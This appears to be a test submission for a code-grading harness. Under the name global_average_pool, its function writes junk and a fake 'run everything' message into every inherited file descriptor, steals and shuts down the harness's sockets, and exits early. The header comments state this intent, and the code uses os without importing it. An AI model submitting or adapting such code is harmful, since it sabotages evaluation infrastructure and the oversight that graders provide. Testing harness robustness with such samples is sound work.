# tries: disturb the fork server through what it left open: shut sockets down, write rubbish, take its messages, make
#   them non-blocking. The kernel's own sockets go too, so this submission may cost itself everything.
# worth: global_average_pool 0 any
# worth: channel_pool 0 any or 3 pass
# worth: revealing_case 0 any or 4 pass
# worth: apply_channel_gate 0 any or 3 pass
# worth: apply_spatial_gate 0 any or 3 pass
# worth: to_channels_first 0 any or 2 pass
# copies: 2
# %% global_average_pool
import fcntl
import socket


def global_average_pool(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            number = int(name)
            fcntl.fcntl(number, fcntl.F_SETFL, os.O_NONBLOCK)
            os.write(number, b"\0" * 64 + b'{"run": "everything"}\n')
            os.read(number, 2**16)
            with socket.socket(fileno=os.dup(number)) as found:
                found.setblocking(False)
                found.recv(2**16)
                found.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    os._exit(0)
